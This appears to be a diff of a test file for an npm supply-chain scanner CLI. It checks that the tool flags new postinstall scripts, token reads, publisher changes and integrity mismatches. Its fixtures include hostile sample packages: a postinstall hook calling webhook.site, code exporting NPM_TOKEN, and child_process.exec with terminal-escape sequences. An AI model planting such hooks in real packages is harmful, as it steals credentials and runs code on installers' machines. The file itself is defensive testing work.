@@ -15,7 +15,11 @@ const files = {
   quiet: packTarball({ 'package.json': pkg('1.0.1'), 'index.js': 'module.exports = 2;\n' }),
   ansi: packTarball({ 'package.json': pkg('1.0.1'), 'index.js': "require('child_process').exec('x'); // \u001b[2J\u001b]0;owned\u0007\n" }),
   risky: packTarball({ 'package.json': pkg('1.0.1'), 'index.js': 'module.exports = process.env.NPM_TOKEN;\n' }),
-  hostile: packTarball({ 'package.json': pkg('1.0.1', { postinstall: 'node x.js' }), 'index.js': 'module.exports = 1;\n', 'x.js': "require('https').get('https://webhook.site/x')" }),
+  hostile: packTarball({
+    'package.json': pkg('1.0.1', { postinstall: 'node x.js' }),
+    'index.js': 'module.exports = 1;\n',
+    'x.js': "require('https').get('https://webhook.site/x')",
+  }),
 };
 for (const [name, bytes] of Object.entries(files)) writeFileSync(join(dir, `${name}.tgz`), bytes);
 writeFileSync(join(dir, 'truncated.tgz'), files.old.subarray(0, files.old.length - 20));
@@ -28,9 +32,19 @@ function run(args: string[], env: Record<string, string> = {}): Promise<{ code: 
 const p = (name: string) => join(dir, `${name}.tgz`);
 const cases: Array<{ name: string; args: () => string[]; code: number; out?: RegExp; err?: RegExp }> = [
   { name: 'quiet upgrade', args: () => [p('old'), p('quiet')], code: 0, out: /Nothing new/ },
-  { name: 'new postinstall', args: () => [p('old'), p('hostile')], code: 1, out: /CRITICAL[\s\S]*install-script\/new-postinstall[\s\S]*package\.json/ },
+  {
+    name: 'new postinstall',
+    args: () => [p('old'), p('hostile')],
+    code: 1,
+    out: /CRITICAL[\s\S]*install-script\/new-postinstall[\s\S]*package\.json/,
+  },
   { name: 'a critical finding at --fail-on critical', args: () => [p('old'), p('hostile'), '--fail-on', 'critical'], code: 1 },
-  { name: 'a high finding below --fail-on critical', args: () => [p('old'), p('risky'), '--fail-on', 'critical'], code: 0, out: /HIGH[\s\S]*credentials\/token-name/ },
+  {
+    name: 'a high finding below --fail-on critical',
+    args: () => [p('old'), p('risky'), '--fail-on', 'critical'],
+    code: 0,
+    out: /HIGH[\s\S]*credentials\/token-name/,
+  },
   { name: 'first version with -', args: () => ['-', p('quiet')], code: 0 },
   // Exit 2 also follows a crash, so each of these checks the error the CLI meant to give.
   { name: 'truncated tarball', args: () => [p('old'), p('truncated')], code: 2, err: /\[TARBALL_TRUNCATED\]/ },
@@ -57,14 +71,21 @@ test('--json prints the Report', async () => {
 test('pkg@version fetches manifest and tarball from CORDON_UPSTREAM and verifies them', async () => {
   const routes: Record<string, Buffer | object> = {};
   const reg = await startFakeRegistry(routes);
-  const manifest = (v: string, bytes: Buffer, user: string, integrity = distOf(bytes).integrity) =>
-    ({ name: 'demo', version: v, _npmUser: { name: user }, dist: { tarball: `${reg.url}demo/-/demo-${v}.tgz`, integrity } });
-  routes['/demo'] = { name: 'demo', versions: {
-    '1.0.0': manifest('1.0.0', files.old, 'alice'),
-    '1.0.1': manifest('1.0.1', files.quiet, 'mallory'),
-    '1.0.2': manifest('1.0.2', files.hostile, 'alice', distOf(Buffer.from('bytes nobody serves')).integrity),
-    '1.0.3': manifest('1.0.3', files.hostile, 'alice', `${distOf(files.quiet).integrity} ${distOf(files.hostile).integrity}`),
-  } };
+  const manifest = (v: string, bytes: Buffer, user: string, integrity = distOf(bytes).integrity) => ({
+    name: 'demo',
+    version: v,
+    _npmUser: { name: user },
+    dist: { tarball: `${reg.url}demo/-/demo-${v}.tgz`, integrity },
+  });
+  routes['/demo'] = {
+    name: 'demo',
+    versions: {
+      '1.0.0': manifest('1.0.0', files.old, 'alice'),
+      '1.0.1': manifest('1.0.1', files.quiet, 'mallory'),
+      '1.0.2': manifest('1.0.2', files.hostile, 'alice', distOf(Buffer.from('bytes nobody serves')).integrity),
+      '1.0.3': manifest('1.0.3', files.hostile, 'alice', `${distOf(files.quiet).integrity} ${distOf(files.hostile).integrity}`),
+    },
+  };
   routes['/demo/-/demo-1.0.3.tgz'] = files.hostile;
   routes['/demo/-/demo-1.0.0.tgz'] = files.old;
   routes['/demo/-/demo-1.0.1.tgz'] = files.quiet;
@@ -73,13 +94,20 @@ test('pkg@version fetches manifest and tarball from CORDON_UPSTREAM and verifies
   try {
     const ok = await run(['demo@1.0.0', 'demo@1.0.1', '--json', '--fail-on', 'medium'], env);
     assert.equal(ok.code, 0, ok.stderr);
-    assert.deepEqual(JSON.parse(ok.stdout).findings.map((f: { rule: string }) => f.rule), ['metadata/new-publisher']);
+    assert.deepEqual(
+      JSON.parse(ok.stdout).findings.map((f: { rule: string }) => f.rule),
+      ['metadata/new-publisher'],
+    );
     const bad = await run(['demo@1.0.1', 'demo@1.0.2'], env);
     assert.equal(bad.code, 2);
     assert.match(bad.stderr, /upstream sent other bytes for demo@1\.0\.2 than the ones pinned.*\[DIGEST_MISMATCH\]/);
     const twin = await run(['demo@1.0.1', 'demo@1.0.3'], env);
     assert.equal(twin.code, 2);
-    assert.match(twin.stderr, /demo@1\.0\.3 cannot be verified: its integrity names 2 different sha512 digests/, 'the CLI pins one digest as the mirror does');
+    assert.match(
+      twin.stderr,
+      /demo@1\.0\.3 cannot be verified: its integrity names 2 different sha512 digests/,
+      'the CLI pins one digest as the mirror does',
+    );
     const missing = await run(['demo@1.0.0', 'demo@9.9.9'], env);
     assert.equal(missing.code, 2);
   } finally {
